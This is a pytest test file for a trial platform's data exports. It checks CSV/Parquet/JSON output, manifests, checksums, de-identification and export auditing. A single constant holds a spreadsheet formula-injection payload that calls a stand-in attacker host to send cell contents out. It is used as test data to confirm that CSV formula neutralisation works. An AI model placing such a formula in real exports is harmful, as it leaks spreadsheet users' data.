"""Exports: the renderers (CSV, Parquet, JSON Lines) on plain frames, and the bundles built
from a trial in the database (manifest, checksums, row counts, de-identification, audit)."""

from __future__ import annotations

import ast
import csv
import gc
import hashlib
import io
import json
import tracemalloc
import zipfile
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pandas as pd
import pyarrow.parquet as pq
import pytest
from django.contrib.auth.models import Group, User
from django.core.exceptions import PermissionDenied

from analysis import codebook, exports
from analysis.datasets import Column, dataset_columns, typed_frame
from analysis.exports import (
    bundle_filename,
    bundle_stream,
    csv_chunks,
    export_to_dir,
    jsonl_chunks,
    neutralise,
    parquet_chunks,
)
from analysis.models import DataExport
from trials.models import Allocation, CodeSnapshot, Event, Participant, Trial
from trials.roles import STATISTICIAN

T0 = datetime(2026, 11, 27, 10, 0, tzinfo=UTC)
SECRETS = ("PID-5f3aSECRET", "STUDY-SECRET", "SESSION-SECRET", "CCSECRET")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


# ---------------------------------------------------------------------------------------------
# Building a trial's data (shared with the other export tests)


def _event(p: Participant, n: int, etype: str, payload: dict[str, Any], **kw: Any) -> Event:
    return Event(
        participant=p,
        stage=kw.pop("stage", None),
        type=etype,
        client_id=f"{etype}-{n}",
        client_seq=n if kw.get("origin", "client") == "client" else None,
        client_time=T0 + timedelta(seconds=n),
        origin=kw.pop("origin", "client"),
        payload=payload,
    )


def fill_trial(trial: Trial, *, participants: int = 3, synthetic: int = 0) -> list[Participant]:
    """Participants with identifiers, allocations, code versions and a realistic mix of
    events, including text a spreadsheet would run and an event type nobody knows yet."""
    warmup = trial.stages.get(key="warmup")
    arms = list(trial.arms.order_by("order"))
    people = []
    for i in range(participants):
        p = Participant.objects.create(
            trial=trial,
            prolific_pid=f"{SECRETS[0]}{i}",
            study_id=f"{SECRETS[1]}-{i}",
            session_id=f"{SECRETS[2]}-{i}",
            completion_code=f"{SECRETS[3]}{i}",
            status=Participant.Status.ACTIVE,
            is_synthetic=i < synthetic,
        )
        Allocation.objects.create(
            participant=p,
            trial=trial,
            arm=arms[i % len(arms)],
            scheme="simple",
            sequence_number=i + 1,
        )
        ran = f"import trio\n\nprint({i})\n"
        CodeSnapshot.objects.create(
            participant=p, stage=warmup, task="tasks/warmup", version=1, code=ran, source="run"
        )
        sha = hashlib.sha256(ran.encode()).hexdigest()
        task = {"task": "tasks/warmup"}
        server = {"origin": "server", "stage": warmup}
        client = {"stage": warmup}
        Event.objects.bulk_create(
            [
                _event(p, 1, "stage_entered", {"stage": "warmup"}, **server),
                _event(p, 2, "edit", task | {"changes": [[0, 0, "x"]], "length": 1}, **client),
                _event(p, 3, "snapshot", task | {"code": FORMULA, "reason": "periodic"}, **client),
                _event(p, 4, "snapshot", task | {"code": FORMULA, "reason": "blur"}, **client),
                _event(
                    p,
                    5,
                    "run",
                    task | {"run_id": 10 + i, "code_sha256": sha, "status": "ok"},
                    **server,
                ),
                _event(
                    p,
                    6,
                    "check",
                    task
                    | {
                        "run_id": 20 + i,
                        "code_sha256": sha,
                        "status": "ok",
                        "tests_passed": 3,
                        "tests_total": 4,
                    },
                    **server,
                ),
                _event(p, 7, "run", task | {"ms": 120, "status": "ok"}, **client),
                _event(
                    p,
                    8,
                    "assistant_request",
                    task | {"turn": 100 + i, "question": "how?"},
                    **server,
                ),
                _event(
                    p,
                    9,
                    "assistant_response",
                    task | {"turn": 100 + i, "status": "completed", "reply": "- use trio.run"},
                    **server,
                ),
                _event(
                    p,
                    10,
                    "paste",
                    task | {"length": 30, "text_preview": '@SUM(1,2)\n"quoted", comma'},
                    **client,
                ),
                _event(p, 11, "brand_new.thing", {"value": -3.5}, **client),
                _event(p, 12, "task_completed", task, **server),
            ]
        )
        people.append(p)
    return people


def unzip(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        assert zf.testzip() is None
        return {name: zf.read(name) for name in zf.namelist()}


def bundle(trial: Trial, fmt: str, **kw: Any) -> dict[str, bytes]:
    return unzip(b"".join(bundle_stream(trial, fmt, **kw)))


# ---------------------------------------------------------------------------------------------
# Renderers on plain frames

COLUMNS = [
    Column("code", "string", "a code", "test"),
    Column("text", "string", "free text", "test"),
    Column("n", "integer", "a count", "test", unit="count"),
    Column("x", "number", "a measure", "test", unit="minutes"),
    Column("flag", "boolean", "a flag", "test"),
    Column("at", "datetime", "a time", "test", unit="UTC"),
    Column("details", "json", "some JSON", "test"),
]

TEXTS = [
    'has "quotes", commas\r\nand newlines',
    "=1+2",
    "+44 20 7946 0958",
    "-2-3",
    "@SUM(A1)",
    "\tlead tab",
    "\rlead CR",
    "plain ünïcödé ✓",
    None,
]


def sample_frame(rows: int = len(TEXTS), start: int = 0) -> pd.DataFrame:
    data = [
        (
            f"P{start + i:05d}",
            TEXTS[i % len(TEXTS)],
            None if i % 4 == 3 else start + i - 2,
            [-3.5, 0.1, float("nan"), 1e-7, 2.0][i % 5],
            [True, False, None][i % 3],
            None if i % 5 == 4 else T0 + timedelta(microseconds=123456, hours=i),
            None if i % 6 == 5 else json.dumps({"i": start + i, "s": "a,b\n"}),
        )
        for i in range(rows)
    ]
    return typed_frame(data, COLUMNS)


def test_csv_is_rfc4180_and_round_trips_through_csv_and_pandas():
    frame = sample_frame()
    data = b"".join(csv_chunks(COLUMNS, [frame.iloc[:4], frame.iloc[4:]]))
    text = data.decode("utf-8")
    assert text.startswith("code,text,n,x,flag,at,details\r\n")
    assert text.endswith("\r\n")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == len(frame) + 1
    assert rows[1][1] == 'has "quotes", commas\r\nand newlines'
    assert '"has ""quotes"", commas\r\nand newlines"' in text  # quotes doubled, field quoted
    assert rows[8][1] == "plain ünïcödé ✓"
    assert rows[9][1] == ""  # missing text is an empty cell
    assert rows[1][5] == "2026-11-27T10:00:00.123456Z"
    assert rows[1][4] == "true" and rows[2][4] == "false" and rows[3][4] == ""
    back = pd.read_csv(io.BytesIO(data), keep_default_na=False, dtype=str)
    assert back["text"][0] == 'has "quotes", commas\r\nand newlines'
    assert json.loads(back["details"][0]) == {"i": 0, "s": "a,b\n"}
    parsed = pd.to_datetime(back["at"][back["at"] != ""], utc=True)
    assert parsed.iloc[0] == pd.Timestamp(T0 + timedelta(microseconds=123456))


def test_csv_neutralises_formulas_in_text_but_never_numbers():
    frame = sample_frame()
    rows = list(csv.reader(io.StringIO(b"".join(csv_chunks(COLUMNS, [frame])).decode())))
    texts = [r[1] for r in rows[1:]]
    assert texts[1] == "'=1+2"
    assert texts[2] == "'+44 20 7946 0958"
    assert texts[3] == "'-2-3"
    assert texts[4] == "'@SUM(A1)"
    assert texts[5] == "'\tlead tab"
    assert texts[6] == "'\rlead CR"
    assert texts[0].startswith("has") and texts[7] == "plain ünïcödé ✓"
    assert rows[1][3] == "-3.5"  # a negative number in a numeric column is untouched
    assert rows[1][2] == "-2"  # ... and in an integer column
    assert rows[3][3] == ""  # NaN is an empty cell
    assert rows[4][3] == "1e-07"
    assert neutralise("") == "" and neutralise("ok=") == "ok="


def test_parquet_round_trips_values_and_declared_types():
    frame = sample_frame()
    data = b"".join(parquet_chunks(COLUMNS, [frame.iloc[:5], frame.iloc[5:]]))
    parquet = pq.ParquetFile(io.BytesIO(data))
    assert parquet.metadata.num_row_groups == 2
    schema = parquet.schema_arrow
    assert [str(schema.field(c.name).type) for c in COLUMNS] == [
        "string",
        "string",
        "int64",
        "double",
        "bool",
        "timestamp[us, tz=UTC]",
        "string",
    ]
    assert schema.field("x").metadata[b"unit"] == b"minutes"
    assert schema.field("details").metadata[b"skilltrial.type"] == b"json"
    table = parquet.read().to_pydict()
    assert table["text"][1] == "=1+2"  # exact values: no spreadsheet prefix in Parquet
    assert table["text"][0] == 'has "quotes", commas\r\nand newlines'
    assert table["text"][8] is None
    assert table["n"][:4] == [-2, -1, 0, None]
    assert table["x"][0] == -3.5 and table["x"][2] is None
    assert table["flag"][:3] == [True, False, None]
    assert table["at"][0] == T0 + timedelta(microseconds=123456)
    assert table["at"][4] is None


def test_parquet_of_an_empty_table_has_the_schema():
    data = b"".join(parquet_chunks(COLUMNS, [sample_frame(0)]))
    table = pq.read_table(io.BytesIO(data))
    assert table.num_rows == 0 and table.column_names == [c.name for c in COLUMNS]


def test_json_lines_are_valid_with_nulls_iso_times_and_nested_json():
    frame = sample_frame()
    data = b"".join(jsonl_chunks(COLUMNS, [frame.iloc[:3], frame.iloc[3:]]))
    lines = data.decode("utf-8").split("\n")
    assert lines[-1] == ""  # every line ends with a newline
    rows = [json.loads(line) for line in lines[:-1]]
    assert len(rows) == len(frame)
    assert list(rows[0]) == [c.name for c in COLUMNS]
    assert rows[0]["text"] == 'has "quotes", commas\r\nand newlines'
    assert rows[1]["text"] == "=1+2"
    assert rows[0]["at"] == "2026-11-27T10:00:00.123456Z"
    assert rows[0]["details"] == {"i": 0, "s": "a,b\n"}
    assert rows[2]["x"] is None  # NaN
    assert rows[3]["n"] is None and rows[2]["flag"] is None and rows[4]["at"] is None
    assert rows[0]["x"] == -3.5 and rows[0]["flag"] is True
    assert pd.read_json(io.BytesIO(data), lines=True).shape == (len(frame), len(COLUMNS))


def test_renderers_refuse_a_frame_that_does_not_match_the_declared_columns():
    frame = sample_frame().drop(columns=["flag"])
    for render in (csv_chunks, jsonl_chunks, parquet_chunks):
        with pytest.raises(exports.ExportError):
            b"".join(render(COLUMNS, [frame]))


def _peak_bytes(render: Any, rows: int, chunk: int) -> int:
    def frames() -> Iterator[pd.DataFrame]:
        for start in range(0, rows, chunk):
            yield sample_frame(min(chunk, rows - start), start)

    gc.collect()
    tracemalloc.start()
    try:
        written = 0
        for block in render(COLUMNS, frames()):
            written += len(block)  # consumed and dropped, as a download would
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize("render", [csv_chunks, jsonl_chunks, parquet_chunks])
def test_renderers_hold_one_chunk_at_a_time(render):
    small = _peak_bytes(render, 2_000, 1_000)
    large = _peak_bytes(render, 20_000, 1_000)
    # Ten times the rows, the same chunk size: the peak must not grow with the rows (a
    # renderer that accumulated the output would need about ten times as much).
    assert large < 2.5 * small


# ---------------------------------------------------------------------------------------------
# Bundles from the database


def test_bundle_files_manifest_checksums_and_row_counts(live_trial):
    fill_trial(live_trial, participants=3)
    files = bundle(live_trial, "csv")
    assert list(files) == [
        "participants.csv",
        "items.csv",
        "events.csv",
        "allocations.csv",
        "codebook.csv",
        "codebook.md",
        "manifest.json",
    ]
    manifest = json.loads(files["manifest.json"])
    listed = {f["path"]: f for f in manifest["files"]}
    assert set(listed) == set(files) - {"manifest.json"}
    for path, entry in listed.items():
        assert entry["sha256"] == hashlib.sha256(files[path]).hexdigest()
        assert entry["bytes"] == len(files[path])
    assert manifest["row_counts"] == {
        "participants": 3,
        "items": 0,
        "events": Event.objects.filter(participant__trial=live_trial).count(),
        "allocations": 3,
    }
    for name, n in manifest["row_counts"].items():
        rows = list(csv.reader(io.StringIO(files[f"{name}.csv"].decode(), newline="")))
        assert len(rows) == n + 1
    assert manifest["trial"] == {
        "slug": live_trial.slug,
        "version": live_trial.version,
        "title": live_trial.title,
        "status": "live",
        "protocol_hash": live_trial.protocol_hash,
        "launched_at": live_trial.launched_at.isoformat().replace("+00:00", "Z"),
        "closed_at": None,
    }
    assert manifest["format"] == "csv" and manifest["identified"] is False
    assert manifest["privacy"].startswith("De-identified")
    assert set(manifest["software"]) >= {"skilltrial", "python", "django", "pandas", "pyarrow"}
    assert manifest["exported_at"].endswith("Z")
    assert manifest["bundle"].startswith(f"{live_trial.slug}-v1-csv-")


@pytest.mark.parametrize("fmt", ["parquet", "json"])
def test_other_formats_hold_the_same_rows(live_trial, fmt):
    fill_trial(live_trial, participants=2)
    files = bundle(live_trial, fmt)
    manifest = json.loads(files["manifest.json"])
    for name in ("participants", "items", "events", "allocations"):
        if fmt == "parquet":
            frame = pd.read_parquet(io.BytesIO(files[f"{name}.parquet"]))
        else:
            lines = files[f"{name}.jsonl"].decode().splitlines()
            frame = pd.DataFrame([json.loads(line) for line in lines])
        assert len(frame) == manifest["row_counts"][name]
        if len(frame):
            columns = [c.name for c in dataset_columns(live_trial, name)]
            assert list(frame.columns) == columns


def test_every_column_of_every_file_is_in_the_codebook(live_trial):
    fill_trial(live_trial, participants=1)
    files = bundle(live_trial, "csv")
    book = list(csv.DictReader(io.StringIO(files["codebook.csv"].decode(), newline="")))
    assert list(book[0]) == list(codebook.CODEBOOK_FIELDS)
    for name in ("participants", "items", "events", "allocations"):
        header = next(csv.reader(io.StringIO(files[f"{name}.csv"].decode())))
        assert header == [r["name"] for r in book if r["dataset"] == name]
    markdown = files["codebook.md"].decode()
    assert "## participants" in markdown and "`quiz_score`" in markdown
    assert "apostrophe" in markdown  # the CSV neutralisation is documented


def test_bundles_are_de_identified_by_default(live_trial):
    people = fill_trial(live_trial, participants=2)
    for fmt in exports.FORMATS:
        files = bundle(live_trial, fmt)
        everything = b"".join(files.values())
        for secret in SECRETS:
            assert secret.encode() not in everything, (fmt, secret)
        for p in people:
            assert p.id.encode() not in everything  # the internal id is an identifier too
            assert p.public_code.encode() in everything
        book = files["codebook.csv"].decode()
        assert "prolific_pid" not in book and ",true\r\n" not in book  # no identifier column


def test_identified_bundle_has_the_identifiers_and_says_so(live_trial):
    fill_trial(live_trial, participants=2)
    files = bundle(live_trial, "csv", identified=True)
    participants = pd.read_csv(io.BytesIO(files["participants.csv"]), dtype=str)
    assert sorted(participants["prolific_pid"]) == [f"{SECRETS[0]}0", f"{SECRETS[0]}1"]
    manifest = json.loads(files["manifest.json"])
    assert manifest["identified"] is True
    assert manifest["privacy"].startswith("IDENTIFIED") and "prolific_pid" in manifest["privacy"]
    assert b"IDENTIFIED" in files["codebook.md"]


def test_identifiers_need_the_permission_when_a_user_asks(live_trial):
    user = User.objects.create_user("stat", password="pw-12345-xyz")
    user.groups.add(Group.objects.get(name=STATISTICIAN))
    with pytest.raises(PermissionDenied):
        bundle_stream(live_trial, "csv", identified=True, user=user)
    assert not DataExport.objects.exists()
    allowed = User.objects.create_superuser("root", password="pw-12345-xyz")
    assert b"".join(bundle_stream(live_trial, "csv", identified=True, user=allowed))


def test_the_manifest_says_how_many_participants_are_synthetic(live_trial):
    fill_trial(live_trial, participants=3, synthetic=2)
    manifest = json.loads(bundle(live_trial, "json")["manifest.json"])
    assert manifest["synthetic"]["any"] is True
    assert manifest["synthetic"]["participants"] == 2 and manifest["synthetic"]["of"] == 3
    assert "SYNTHETIC" in manifest["synthetic"]["statement"]


def test_a_real_trial_is_not_called_synthetic(live_trial):
    fill_trial(live_trial, participants=1)
    manifest = json.loads(bundle(live_trial, "csv")["manifest.json"])
    assert manifest["synthetic"]["any"] is False and manifest["synthetic"]["participants"] == 0


def test_every_export_is_recorded(live_trial):
    fill_trial(live_trial, participants=2)
    user = User.objects.create_superuser("root", password="pw-12345-xyz")
    files = bundle(live_trial, "parquet", user=user, channel=DataExport.Channel.WEB)
    export = DataExport.objects.get()
    manifest = json.loads(files["manifest.json"])
    assert export.status == DataExport.Status.DONE and export.finished_at is not None
    assert export.user == user and export.channel == "web" and export.format == "parquet"
    assert export.identified is False
    assert export.row_counts == manifest["row_counts"]
    assert export.manifest == manifest
    assert export.rows_done == sum(manifest["row_counts"].values()) == export.rows_total
    assert export.size_bytes and export.size_bytes > 0


def test_an_abandoned_download_is_recorded_as_failed(live_trial):
    fill_trial(live_trial, participants=1)
    stream = bundle_stream(live_trial, "csv")
    assert not DataExport.objects.exists()  # nothing happens until the first bytes are read
    next(stream)
    assert DataExport.objects.get().status == DataExport.Status.RUNNING
    stream.close()
    export = DataExport.objects.get()
    assert export.status == DataExport.Status.FAILED and "interrupted" in export.error


def test_progress_is_reported_per_table(live_trial):
    fill_trial(live_trial, participants=2)
    seen: list[tuple[int, int, str]] = []
    b"".join(bundle_stream(live_trial, "csv", progress=lambda *a: seen.append(a)))
    events = Event.objects.filter(participant__trial=live_trial).count()
    assert (events, events, "events") in seen
    assert (2, 2, "participants") in seen


def test_unknown_format_is_refused_at_once(live_trial):
    with pytest.raises(exports.ExportError, match="unknown export format"):
        bundle_stream(live_trial, "xlsx")
    with pytest.raises(exports.ExportError):
        bundle_filename(live_trial, "xlsx")


def test_bundle_filename_names_trial_format_and_time(live_trial):
    at = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
    assert (
        bundle_filename(live_trial, "csv", at=at)
        == "trio-skill-formation-v1-csv-20260102T030405Z.zip"
    )
    assert "-identified-" in bundle_filename(live_trial, "json", identified=True, at=at)


def test_export_to_dir_writes_the_bundle_layout_or_the_zip(live_trial, tmp_path):
    fill_trial(live_trial, participants=2)
    result = export_to_dir(live_trial, "json", tmp_path / "files")
    names = sorted(p.relative_to(tmp_path / "files").as_posix() for p in result.paths)
    assert names == sorted(
        [
            "participants.jsonl",
            "items.jsonl",
            "events.jsonl",
            "allocations.jsonl",
            "codebook.csv",
            "codebook.md",
            "manifest.json",
        ]
    )
    manifest = json.loads((tmp_path / "files" / "manifest.json").read_text())
    for f in manifest["files"]:
        data = (tmp_path / "files" / f["path"]).read_bytes()
        assert hashlib.sha256(data).hexdigest() == f["sha256"]
    zipped = export_to_dir(live_trial, "json", tmp_path / "zip", as_zip=True)
    [path] = zipped.paths
    assert path.name.endswith(".zip")
    assert (
        json.loads(unzip(path.read_bytes())["manifest.json"])["row_counts"]
        == manifest["row_counts"]
    )
    assert DataExport.objects.filter(channel="command", status="done").count() == 2


def test_bundle_export_reads_events_chunk_by_chunk(live_trial, monkeypatch):
    """The whole path, database to zip: ten times the events must not need ten times the
    memory (the events are streamed from the database in chunks)."""
    [p] = fill_trial(live_trial, participants=1)
    monkeypatch.setattr(exports.writer, "CHUNK_ROWS", 500)

    def add_events(n: int) -> None:
        start = Event.objects.count()
        Event.objects.bulk_create(
            [
                _event(
                    p, start + i, "edit", {"task": "tasks/warmup", "changes": [[0, 0, "y" * 40]]}
                )
                for i in range(n)
            ],
            batch_size=1000,
        )

    def peak() -> int:
        gc.collect()
        tracemalloc.start()
        try:
            for _ in bundle_stream(live_trial, "csv"):
                pass
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    add_events(1_000)
    small = peak()
    add_events(9_000)
    large = peak()
    assert Event.objects.count() > 10_000
    assert large < 3 * small


def test_numbers_stay_numbers_through_every_format(live_trial):
    fill_trial(live_trial, participants=1)
    files = bundle(live_trial, "csv")
    events = pd.read_csv(io.BytesIO(files["events.csv"]), dtype={"payload": str})
    payloads = [json.loads(p) for p in events["payload"]]
    assert {"value": -3.5} in payloads  # the JSON text starts with "{": not neutralised
    assert events["client_seq"].dropna().min() == 2  # integers read back as numbers


def test_a_synthetic_trial_exports_de_identified_in_every_format(live_trial):
    from analysis.synthetic import synthesize_trial

    synthesize_trial(live_trial, participants=12, seed=3, events_per_participant=40)
    rows = Participant.objects.filter(trial=live_trial).values_list(
        "id", "prolific_pid", "study_id", "session_id"
    )
    secrets = {value for row in rows for value in row if len(value) >= 12}
    assert secrets
    for fmt in exports.FORMATS:
        files = bundle(live_trial, fmt)
        everything = b"".join(files.values())
        assert not [s for s in secrets if s.encode() in everything], fmt
        manifest = json.loads(files["manifest.json"])
        assert manifest["synthetic"]["participants"] == 12 and manifest["synthetic"]["any"]
        assert manifest["row_counts"]["participants"] == 12


def test_format_modules_never_import_the_bundle_that_uses_them():
    """The formats depend on the shared cell and writer modules only; the bundle picks them
    from the registry. An import "upward" would bring back the old exports <-> progsnap2
    cycle."""
    package = Path(exports.__file__).parent
    upward = {
        "analysis.exports",
        "analysis.exports.bundle",
        "analysis.exports.manifest",
        "analysis.exports.audit",
        "analysis.exports.formats",
    }
    for name in ("cells", "writer", "csv", "jsonl", "parquet", "progsnap2"):
        tree = ast.parse((package / f"{name}.py").read_text())
        imported = {node.module for node in ast.walk(tree) if isinstance(node, ast.ImportFrom)} | {
            a.name for node in ast.walk(tree) if isinstance(node, ast.Import) for a in node.names
        }
        assert not imported & upward, (name, imported & upward)


def test_every_format_has_one_registered_writer():
    assert exports.FORMATS == ("csv", "parquet", "json", "progsnap2")
    assert all(exports.WRITERS[fmt].name == fmt for fmt in exports.FORMATS)
